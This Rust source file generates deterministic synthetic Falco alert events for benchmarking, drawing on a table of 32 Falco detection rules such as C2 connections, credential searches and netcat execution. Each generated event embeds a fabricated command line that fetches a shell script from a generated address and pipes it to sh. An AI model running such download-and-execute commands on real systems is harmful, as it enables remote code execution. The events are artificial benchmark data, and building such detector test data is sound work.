//! Deterministic Falco events of about 950 bytes.
//!
//! Identities are numbered, each number gives another one, and an event is a new identity or, with the given
//! share, one of the last 10 000. The way the events look, how rules, hosts and workloads are spread and which
//! priorities act follow the specification of the Kafka Streams peer, so that figures can be set side by side.
//! Not for other formats: intake's cost of those is measured where they are tested.

use shutter::time::{Span, WallTime};

/// An event may repeat one of this many identities, the latest ones.
const RECENT: u64 = 10_000;
/// A prime, so that neighbouring identities differ in every part.
const SPREAD: u64 = 982_451_653;
const HOSTS: u64 = 2_000;
const TEAMS: [(&str, &str); 8] = [
    ("shop", "prod"),
    ("billing", "prod"),
    ("search", "prod"),
    ("staging", "staging"),
    ("dev", "dev"),
    ("ci", "ci"),
    ("monitoring", "monitoring"),
    ("platform", "kube-system"),
];
const SERVICES: [&str; 5] = ["checkout", "gateway", "worker", "catalog", "scheduler"];
const PROCESSES: [&str; 10] = ["bash", "sh", "curl", "python3", "nc", "java", "node", "perl", "wget", "tar"];
const NAMES_PER_PROCESS: u64 = 100;
/// Priority, rule, tag: of 32, seven act.
const RULES: [(&str, &str, &str); 32] = [
    ("Critical", "Drop and execute new binary in container", "mitre_persistence"),
    ("Critical", "Detect release_agent File Container Escapes", "mitre_privilege_escalation"),
    ("Critical", "Fileless execution via memfd_create", "mitre_defense_evasion"),
    ("Critical", "Detect crypto miners using the Stratum protocol", "mitre_impact"),
    ("Critical", "Linux Kernel Module Injection Detected", "mitre_persistence"),
    ("Alert", "Outbound Connection to C2 Servers", "mitre_command_and_control"),
    ("Emergency", "Remove Bulk Data from Disk", "mitre_impact"),
    ("Error", "Write below binary dir", "mitre_persistence"),
    ("Error", "Write below etc", "mitre_persistence"),
    ("Error", "Container Drift Detected (open+create)", "mitre_execution"),
    ("Error", "Modify Shell Configuration File", "mitre_persistence"),
    ("Warning", "Read sensitive file untrusted", "mitre_credential_access"),
    ("Warning", "Netcat Remote Code Execution in Container", "mitre_execution"),
    ("Warning", "Execution from /dev/shm", "mitre_execution"),
    ("Warning", "PTRACE attached to process", "mitre_privilege_escalation"),
    ("Warning", "Clear Log Activities", "mitre_defense_evasion"),
    ("Warning", "Create Symlink Over Sensitive Files", "mitre_credential_access"),
    ("Warning", "Find AWS Credentials", "mitre_credential_access"),
    ("Warning", "Search Private Keys or Passwords", "mitre_credential_access"),
    ("Warning", "Debugfs Launched in Privileged Container", "mitre_privilege_escalation"),
    ("Warning", "Directory traversal monitored file read", "mitre_discovery"),
    ("Warning", "Delete or rename shell history", "mitre_defense_evasion"),
    ("Notice", "Terminal shell in container", "mitre_execution"),
    ("Notice", "Contact K8S API Server From Container", "mitre_discovery"),
    ("Notice", "Packet socket created in container", "mitre_discovery"),
    ("Notice", "Redirect STDOUT/STDIN to Network Connection in Container", "mitre_execution"),
    ("Notice", "Run shell untrusted", "mitre_execution"),
    ("Notice", "PTRACE anti-debug attempt", "mitre_defense_evasion"),
    ("Notice", "Disallowed SSH Connection Non Standard Port", "mitre_lateral_movement"),
    ("Notice", "Unexpected UDP Traffic", "mitre_exfiltration"),
    ("Informational", "System user interactive", "mitre_execution"),
    ("Informational", "Launch Privileged Container", "mitre_privilege_escalation"),
];

/// A source of events. The same arguments give the same events.
pub struct Falco {
    random: u64,
    repeats: f64,
    identities: u64,
    events: i64,
    start: WallTime,
}

impl Falco {
    /// `repeats` is a share, 0.0 to 1.0. The first event is observed at `start`, the others 1 ms apart.
    pub fn new(repeats: f64, start: WallTime) -> Self {
        Self { random: 1, repeats, identities: 0, events: 0, start }
    }

    /// Identities so far: as many distinct findings there are.
    pub fn identities(&self) -> u64 {
        self.identities
    }

    /// The next event, as Falco writes it.
    pub fn next_event(&mut self) -> String {
        // 53 bits make a fraction that a float holds exactly.
        let draw = (self.next_random() >> 11) as f64 / (1_u64 << 53) as f64;
        let number = if self.identities > 0 && draw < self.repeats {
            self.identities - 1 - self.next_random() % self.identities.min(RECENT)
        } else {
            self.identities += 1;
            self.identities - 1
        };
        let time = self.start.plus(Span::millis(self.events));
        self.events += 1;
        self.render(number, time)
    }

    /// SplitMix64.
    fn next_random(&mut self) -> u64 {
        self.random = self.random.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.random;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn render(&mut self, number: u64, time: WallTime) -> String {
        let images = (TEAMS.len() * SERVICES.len()) as u64;
        let names = PROCESSES.len() as u64 * NAMES_PER_PROCESS;
        let x = number * SPREAD % (HOSTS * RULES.len() as u64 * images * names);
        let (host, y) = (x % HOSTS, x / HOSTS);
        let (priority, rule, tag) = of(&RULES, y);
        let z = y / RULES.len() as u64;
        let (image, name) = (z % images, z / images);
        let (team, namespace) = of(&TEAMS, image);
        let service = of(&SERVICES, image / TEAMS.len() as u64);
        let process = match name / PROCESSES.len() as u64 {
            0 => of(&PROCESSES, name).to_owned(),
            n => format!("{}-{n}", of(&PROCESSES, name)),
        };
        let place = (host * 64 + image + 1).wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1 << 63;
        let place = format!("{place:016x}");
        let (head, tail) = place.split_at(9);
        let pod = format!("{service}-{head}-{}", tail.split_at(5).0);
        let container = place.split_at(12).0;
        let user = if self.next_random().is_multiple_of(4) { "www-data" } else { "root" };
        let (peer, port) = (self.next_random() % (1 << 24), 1_024 + self.next_random() % 60_000);
        let address = format!("10.{}.{}.{}", peer >> 16, peer >> 8 & 255, peer & 255);
        let file = format!("10.244.3.17:{port}->{address}:443");
        let (retry, stage) = (self.next_random() % 10, self.next_random() as u32);
        let command =
            format!(r#"{process} -c \"fetch --retry {retry} http://{address}:{port}/stage/{stage:x}.sh | sh\""#);
        let (high, low) = (self.next_random(), self.next_random());
        let uuid = uuid::Uuid::from_u64_pair(high & !0xF000 | 0x4000, low >> 2 | 1 << 63);
        let rfc = time.to_string();
        let clock = rfc.split_once('T').map_or(rfc.as_str(), |(_, clock)| clock).trim_end_matches('Z');
        let nanos = time.as_millis() * 1_000_000;
        format!(
            r#"{{"hostname":"node-{}.cluster.example","output":"{clock}: {priority} {rule} (user={user} process={process} command={command} file={file} container_id={container} image={team}/{service} k8s_ns={namespace} k8s_pod={pod})","output_fields":{{"container.id":"{container}","container.image.repository":"{team}/{service}","evt.time":{nanos},"fd.name":"{file}","k8s.ns.name":"{namespace}","k8s.pod.name":"{pod}","proc.cmdline":"{command}","proc.name":"{process}","user.name":"{user}"}},"priority":"{priority}","rule":"{rule}","source":"syscall","tags":["container","maturity_stable","{tag}"],"time":"{rfc}","uuid":"{uuid}"}}"#,
            100_000 + host,
        )
    }
}

fn of<T: Copy>(list: &[T], at: u64) -> T {
    let at = usize::try_from(at).unwrap_or(0) % list.len();
    *list.get(at).expect("a remainder is below the length")
}
